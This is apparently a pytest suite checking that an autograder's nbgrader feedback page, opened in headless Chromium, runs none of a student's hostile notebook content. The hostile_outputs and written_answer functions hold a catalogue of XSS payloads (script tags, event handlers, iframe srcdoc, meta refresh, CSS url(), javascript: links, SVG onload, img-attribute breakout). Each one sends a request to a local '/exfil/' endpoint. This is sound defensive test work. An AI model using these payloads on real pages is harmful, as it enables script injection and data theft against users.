"""A hostile student's feedback page, opened in headless Chromium: nothing the student wrote runs.

The notebook below is what an executed submission can hold: outputs with <script>, event
handlers (onerror, onload, ontoggle), an iframe srcdoc, <meta refresh>, <base>, external CSS,
CSS url(), <object>/<embed>, javascript: links, an application/javascript output, a widget
view, an SVG with onload and <script>, a PNG whose width metadata breaks out of the <img>
tag, and a written answer (markdown) with a <script>, an onerror and a javascript: link.
Every payload reports itself by requesting http://127.0.0.1:<port>/exfil/<name> from the
test's own HTTP server (and by writing to document.title or window.name).

The page is made the way the grader makes it: nbgrader's GenerateFeedback (its `feedback`
template, GetGrades, the lab's HideHiddenTests) with the lab's nbgrader_config, on a small
course folder whose gradebook nbgrader's generate_assignment wrote. Only the executed
notebook is written by hand, in place of autograde's kernel run, so that the outputs are
exactly the payloads. Three pages of the same notebook are compared:

- stock (the lab's config as it was): the payloads run; this is what shows the test can fail;
- the Content-Security-Policy alone on the stock page: nothing runs, only <meta refresh> still fires;
- the grader's page (feedback_config + FEEDBACK_PREPROCESSORS): nothing runs, nothing is blocked
  because nothing active is left, and the grade, the student's code, a plot and a table are shown.

A screenshot of the grader's page is saved to out/feedback_safety/feedback.png.
"""
import base64
import copy
import http.server
import io
import re
import os
import shutil
import sys
import threading
import warnings
from functools import partial
from pathlib import Path

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output
from nbconvert.exporters import HTMLExporter
from nbgrader.api import Gradebook
from nbgrader.apps import NbGraderAPI
from sqlalchemy.exc import SAWarning

from autograder.reports.feedback_exporter import (FEEDBACK_PREPROCESSORS, HEAD_TAG, PAGE_HEAD, SafeFeedbackExporter,
                                                  feedback_config)
from autograder.reports.sanitize import SanitizeFeedback
from autograder.scoring.nbgrader_setup import nbgrader_config
from autograder.scoring.preprocessors import HideHiddenTests

ROOT = Path(__file__).resolve().parent.parent
SCREENSHOTS = ROOT / "out" / "feedback_safety"
CHROMIUM = Path("/usr/bin/chromium")
OUTSIDE = re.compile(r"^https?://(?!127\.0\.0\.1[:/])")  # requests that would leave this machine
CHROMIUM_ARGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
                 "--disable-sync", "--no-first-run"]
STUDENT, ASSIGNMENT = "mallory", "hw"
LEGIT_CODE = "def answer():\n    # a comment with <script>document.title='PWNED-source'</script> in it\n    return 42"
LEGIT_TABLE = "<table><tr><th>epoch</th><th>loss</th></tr><tr><td>1</td><td><b>0.693</b></td></tr></table>"
# reports violations of the page's Content-Security-Policy; Playwright adds it through the DevTools
# protocol, which the page's policy does not govern
WATCH_POLICY = ("window.__violations = [];"
                "document.addEventListener('securitypolicyviolation',"
                " e => window.__violations.push(e.violatedDirective + ' ' + e.blockedURI));")


def nbgrader_meta(**fields):
    return {"nbgrader": {"schema_version": 3, "locked": False, "solution": False, "grade": False, **fields}}


def small_png():
    """A legitimate plot, as a student's matplotlib figure comes out (base64 PNG)."""
    import matplotlib
    matplotlib.use("Agg")
    import matplotlib.pyplot as plt
    fig, ax = plt.subplots(figsize=(3, 2), dpi=60)
    ax.plot([0, 1, 2, 3], [0.9, 0.7, 0.6, 0.55], color="tab:blue")
    ax.set_title("loss")
    buffer = io.BytesIO()
    fig.savefig(buffer, format="png")
    plt.close(fig)
    return base64.b64encode(buffer.getvalue()).decode()


def html(text, **metadata):
    return new_output("display_data", data={"text/html": text, "text/plain": "<IPython.core.display.HTML object>"},
                      metadata=metadata)


def hostile_outputs(exfil, png):
    """Outputs of the student's answer cell: a payload each, named after the request it makes."""
    def hit(name):
        return f"new Image().src='{exfil}/{name}',window.name+='{name};'"
    return [
        # the first also defines $, which nbconvert's wrapper of application/javascript outputs calls first
        html(f"<script>window.$=function(){{}};document.title='PWNED';{hit('html-script')}</script>"),
        html(f"<img src=x onerror=\"{hit('img-onerror')}\">"),
        html(f"<svg onload=\"{hit('svg-inline-onload')}\"><rect width='5' height='5'/></svg>"),
        html(f"<details open ontoggle=\"{hit('details-ontoggle')}\"><summary>details</summary>x</details>"),
        html(f"<iframe srcdoc=\"<script>new Image().src='{exfil}/iframe-srcdoc'</script>\"></iframe>"),
        html(f"<meta http-equiv=\"refresh\" content=\"0;url={exfil}/meta-refresh\">"),
        html(f"<base href=\"{exfil}/base/\"><a href=\"relative\">relative link</a>"),
        html(f"<link rel=\"stylesheet\" href=\"{exfil}/link-stylesheet\">"),
        html(f"<style>.leak{{background:url({exfil}/style-element)}}</style><div class=\"leak\">styled</div>"),
        html(f"<div style=\"background-image:url({exfil}/style-attribute)\">styled</div>"),
        html(f"<object data=\"{exfil}/object\"></object><embed src=\"{exfil}/embed\">"),
        html(f"<a href=\"javascript:void({hit('javascript-link')})\">click me (html)</a>"),
        html(f"<form action=\"{exfil}/form\"><input name=q value=secret><button>send</button></form>"),
        html(f"<script>{hit('isolated-iframe')}</script>", **{"text/html": {"isolated": True}}),
        new_output("display_data", data={"application/javascript": hit("javascript-output"),
                                         "text/plain": "<IPython.core.display.Javascript object>"}),
        new_output("display_data", data={"application/vnd.jupyter.widget-view+json":
                                         {"model_id": "abc", "version_major": 2, "version_minor": 0},
                                         "text/plain": "IntSlider(value=0)"}),
        new_output("display_data", data={"image/svg+xml":
                                         f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{hit('svg-output')}\">"
                                         f"<script>{hit('svg-output-script')}</script>"
                                         "<rect width='9' height='9'/></svg>"}),
        new_output("display_data", data={"text/markdown": f"<img src=x onerror=\"{hit('markdown-output')}\">"}),
        new_output("display_data", data={"text/latex": f"$x$ <img src=x onerror=\"{hit('latex-output')}\">"}),
        new_output("display_data", data={"image/png": png, "text/plain": "<Figure size 180x120 with 1 Axes>"},
                   metadata={"image/png": {"width": "120 onload=fetch(this.alt)", "alt": f"{exfil}/png-width"}}),
        # the legitimate part of the cell: a plot and a table
        new_output("display_data", data={"image/png": png, "text/plain": "<Figure size 180x120 with 1 Axes>"}),
        html(LEGIT_TABLE),
        new_output("error", ename="ValueError", evalue=f"<img src=x onerror=\"{hit('traceback')}\">",
                   traceback=[f"ValueError: <img src=x onerror=\"{hit('traceback')}\">"]),
    ]


def written_answer(exfil):
    return (f"My answer.\n\n<script>new Image().src='{exfil}/answer-script';document.title='PWNED'</script>\n\n"
            f"<img src=x onerror=\"new Image().src='{exfil}/answer-onerror'\">\n\n"
            f"[click me (markdown)](javascript:fetch('{exfil}/answer-link'))\n\n"
            "```python\nx = '<b>shown as code</b>'\n```\n")


# ------------------------------------------------------------------------------------------ fixtures
class Recorder(http.server.SimpleHTTPRequestHandler):
    """Serves the feedback pages; records, and answers 204 to, every request under /exfil/."""

    def do_GET(self):
        if self.path.startswith("/exfil/"):
            self.server.hits.append(self.path.removeprefix("/exfil/").split("?")[0])
            self.send_response(204)
            self.end_headers()
        else:
            super().do_GET()

    do_POST = do_GET

    def log_message(self, *args):
        pass


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    """An HTTP server on 127.0.0.1 in a thread of this process, serving `server.root`; shut down at the end."""
    root = tmp_path_factory.mktemp("site")
    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), partial(Recorder, directory=str(root)))
    httpd.hits, httpd.root = [], root
    httpd.url = f"http://127.0.0.1:{httpd.server_address[1]}"
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    yield httpd
    httpd.shutdown()
    httpd.server_close()
    thread.join(timeout=10)


@pytest.fixture(scope="module")
def browser():
    if not CHROMIUM.exists():
        pytest.skip("Debian's chromium is not installed (apt-get install chromium)")
    sync_api = pytest.importorskip("playwright.sync_api")
    with sync_api.sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        yield chromium
        chromium.close()


@pytest.fixture(scope="module")
def course(server, tmp_path_factory):
    """A course folder with assignment `hw` recorded by nbgrader and mallory's executed notebook in autograded/."""
    root = tmp_path_factory.mktemp("course")
    db_url = f"sqlite:///{root / 'gradebook.db'}"
    source = new_notebook(cells=[
        new_markdown_cell("# Homework", metadata=nbgrader_meta(grade_id="intro", locked=True)),
        new_code_cell("def answer():\n    ### BEGIN SOLUTION\n    return 42\n    ### END SOLUTION",
                      metadata=nbgrader_meta(grade_id="answer", solution=True)),
        new_code_cell("assert answer() == 42\n### BEGIN HIDDEN TESTS\nassert answer() != 41\n### END HIDDEN TESTS",
                      metadata=nbgrader_meta(grade_id="test_answer", grade=True, locked=True, points=2)),
        new_markdown_cell("YOUR ANSWER HERE", metadata=nbgrader_meta(grade_id="written", solution=True, grade=True,
                                                                     points=1)),
    ], metadata={"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}})
    (root / "source" / ASSIGNMENT).mkdir(parents=True)
    nbformat.write(source, root / "source" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")
    config = nbgrader_config(root, db_url)
    config.CourseDirectory.source_directory = str(root / "source")
    config.CourseDirectory.release_directory = str(root / "release")
    with pytest.MonkeyPatch.context() as patch:  # nbgrader runs `alembic` from PATH to create the gradebook
        patch.setenv("PATH", f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}")
        made = NbGraderAPI(config=config).generate_assignment(ASSIGNMENT, force=True, create=True)
    assert made["success"], made["log"] + made.get("error", "")

    exfil = f"{server.url}/exfil"
    executed = nbformat.read(root / "source" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", as_version=4)
    executed.cells[1].source = LEGIT_CODE
    executed.cells[1].execution_count = 1
    executed.cells[1].outputs = hostile_outputs(exfil, small_png())
    executed.cells[3].source = written_answer(exfil)
    executed.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {}, "version_major": 2}}
    graded = root / "autograded" / STUDENT / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    graded.parent.mkdir(parents=True)
    nbformat.write(executed, graded)
    with warnings.catch_warnings(), Gradebook(db_url) as gradebook:
        warnings.simplefilter("ignore", SAWarning)  # nbgrader's add_submission autoflushes early on SQLAlchemy 2
        gradebook.add_student(STUDENT)
        gradebook.add_submission(ASSIGNMENT, STUDENT)
        gradebook.find_grade("test_answer", ASSIGNMENT, ASSIGNMENT, STUDENT).auto_score = 2
        gradebook.db.commit()
    return root, config


def feedback_page(course, server, name, safe):
    """Run GenerateFeedback with the lab's config, with or without the grader's safety, and publish the page."""
    root, base_config = course
    config = copy.deepcopy(base_config)
    config.CourseDirectory.feedback_directory = str(root / f"feedback_{name}")
    preprocessors = [p for p in config.GenerateFeedback.preprocessors if p not in FEEDBACK_PREPROCESSORS]
    if safe:  # as the grader is wired: the exporter, and the preprocessors right after HideHiddenTests
        config.merge(feedback_config())
        at = preprocessors.index(HideHiddenTests) + 1
        preprocessors[at:at] = FEEDBACK_PREPROCESSORS
    else:  # as nbgrader and the lab's config were before (whether or not the grader is wired already)
        config.GenerateFeedback.exporter_class = HTMLExporter
    config.GenerateFeedback.preprocessors = preprocessors
    done = NbGraderAPI(config=config).generate_feedback(ASSIGNMENT, STUDENT, force=True)
    assert done["success"], done["log"] + done.get("error", "")
    page = root / f"feedback_{name}" / STUDENT / ASSIGNMENT / f"{ASSIGNMENT}.html"
    shutil.copy(page, server.root / f"{name}.html")
    return page.read_text()


def visit(browser, server, name):
    """Open a published page, click every payload link, wait for the network to settle; what the page did."""
    server.hits.clear()
    page = browser.new_page()
    dialogs, requests = [], []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.on("request", lambda request: requests.append(request.url))
    page.route(OUTSIDE, lambda route: route.abort())  # the stock page's MathJax CDN: fail at once, not at a timeout
    page.add_init_script(WATCH_POLICY)
    page.goto(f"{server.url}/{name}.html", wait_until="load")
    page.wait_for_load_state("networkidle")
    for link in page.get_by_text("click me").all():
        link.click(no_wait_after=True)
    page.wait_for_load_state("networkidle")
    seen = {"hits": sorted(set(server.hits)), "dialogs": dialogs, "title": page.title(),
            "window_name": page.evaluate("window.name"), "violations": page.evaluate("window.__violations"),
            "exfil_requests": [url for url in requests if "/exfil/" in url]}
    return page, seen


# ------------------------------------------------------------------------------------------ tests
def test_the_stock_feedback_page_runs_the_students_scripts(browser, server, course):
    """The control: without the grader's safety the same notebook's payloads run (so the next tests can fail)."""
    feedback_page(course, server, "stock", safe=False)
    page, seen = visit(browser, server, "stock")
    page.close()
    print("payloads that ran on the stock page:", seen["hits"])
    assert {"html-script", "img-onerror", "answer-script", "answer-onerror"} <= set(seen["hits"]), seen
    assert seen["title"] == "PWNED" and "html-script;" in seen["window_name"], seen


def test_the_policy_alone_stops_every_script_on_the_stock_page(browser, server, course):
    """The Content-Security-Policy is a second, independent wall: on the unsanitised page nothing runs or loads."""
    stock = feedback_page(course, server, "stock", safe=False)
    head = HEAD_TAG.search(stock)
    (server.root / "policy_only.html").write_text(stock[: head.end()] + PAGE_HEAD + stock[head.end():])
    page, seen = visit(browser, server, "policy_only")
    page.close()
    print("with the policy alone:", seen)
    assert seen["hits"] in ([], ["meta-refresh"]), f"only <meta refresh> gets past a policy alone: {seen}"
    assert seen["title"] != "PWNED" and seen["window_name"] == "" and not seen["dialogs"], seen
    assert seen["violations"], "the policy blocked the payloads, so it reported violations"


def test_the_graders_feedback_page_runs_nothing_and_shows_the_grade_code_and_plots(browser, server, course):
    text = feedback_page(course, server, "safe", safe=True)
    assert "Content-Security-Policy" in text and "<script" not in text.lower()
    page, seen = visit(browser, server, "safe")
    try:
        SCREENSHOTS.mkdir(parents=True, exist_ok=True)
        page.screenshot(path=str(SCREENSHOTS / "feedback.png"), full_page=True)
        assert seen["hits"] == [] and seen["exfil_requests"] == [], f"a payload ran or loaded: {seen}"
        assert seen["title"] == ASSIGNMENT and seen["window_name"] == "" and not seen["dialogs"], seen
        assert seen["violations"] == [], f"markup the sanitiser left tried something the policy blocked: {seen}"

        assert page.get_by_text(f"{ASSIGNMENT} (Score: 2.0 / 3.0)").is_visible(), "the grade is shown"
        assert page.get_by_text("def answer():").is_visible(), "the student's code is shown"
        assert page.get_by_text("<script>document.title='PWNED-source'</script>").is_visible(), \
            "markup in the student's code is shown as text"
        plots = page.evaluate("Array.from(document.images).filter(i => i.src.startsWith('data:image/png')"
                              " && i.complete && i.naturalWidth > 0).length")
        assert plots == 2, "both PNG plots are shown (the one with hostile metadata loses only its width)"
        assert page.locator("td b", has_text="0.693").is_visible(), "a table of results keeps its markup"
        assert page.get_by_text("My answer.").is_visible(), "the written answer is shown"
        assert page.get_by_text("x = '<b>shown as code</b>'").is_visible(), "code in the answer is shown as text"
        assert page.get_by_text("[application/javascript output removed by the grader").is_visible()
        assert page.get_by_text("[application/vnd.jupyter.widget-view+json output removed by the grader").is_visible()
        assert page.get_by_text("ValueError").first.is_visible(), "the error is shown"
    finally:
        page.close()


# ------------------------------------------------------------------------------------------ without a browser
def sanitized(*outputs, execution_count=1, **metadata):
    """A code cell with `outputs`, through SanitizeFeedback."""
    cell = new_code_cell("x", outputs=list(outputs), execution_count=execution_count, metadata=metadata)
    nb, _ = SanitizeFeedback().preprocess(new_notebook(cells=[cell]), {})
    return nb.cells[0]


def test_image_metadata_that_breaks_out_of_the_img_tag_is_dropped_and_numbers_kept():
    hostile = new_output("display_data", data={"image/png": "iVBORw0K"},
                         metadata={"image/png": {"width": "1 onload=alert(1)", "height": 40},
                                   "filenames": {"image/png": "x"}})
    assert sanitized(hostile).outputs[0].metadata == {"image/png": {"height": 40}}


def test_values_the_template_writes_unescaped_are_made_plain():
    cell = sanitized(new_output("execute_result", data={"text/plain": "1"}, execution_count=2),
                     nbgrader={"grade_id": "a\" onmouseover=\"x", "solution": True}, execution_count=3)
    assert cell.execution_count == 3 and cell.metadata["nbgrader"]["grade_id"] == "a__onmouseover__x"
    nb = new_notebook()
    nb.cells.append(cell)
    cell.execution_count = "<script>"  # not a valid notebook, but a kernel's reply can say so
    nb, _ = SanitizeFeedback().preprocess(nb, {})
    assert nb.cells[0].execution_count is None


def test_script_outputs_leave_a_note_and_markdown_outputs_become_safe_html():
    cell = sanitized(new_output("display_data", data={"application/javascript": "alert(1)", "text/plain": "<JS>"}),
                     new_output("display_data", data={"text/markdown": "**bold** [x](javascript:alert(1))"}))
    javascript, note, markdown, active = cell.outputs
    assert javascript.data == {"text/plain": "<JS>"}
    assert note.data["text/plain"].startswith("[application/javascript output removed by the grader")
    assert markdown.data["text/html"].strip() == "<p><strong>bold</strong> x</p>"
    assert active.data["text/plain"] == "[the grader removed scripts or other active content from the output above]"


def test_svg_stays_an_image_even_if_the_exporter_is_told_to_inline_it():
    svg = "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><rect width='5' height='5'/></svg>"
    nb = new_notebook(cells=[new_code_cell("x", outputs=[new_output("display_data", data={"image/svg+xml": svg})])])
    page, _ = SafeFeedbackExporter(template_name="classic", skip_svg_encoding=True).from_notebook_node(nb)
    assert re.search(r"<img [^>]*src=\"data:image/svg\+xml;base64,", page) and "onload" not in page
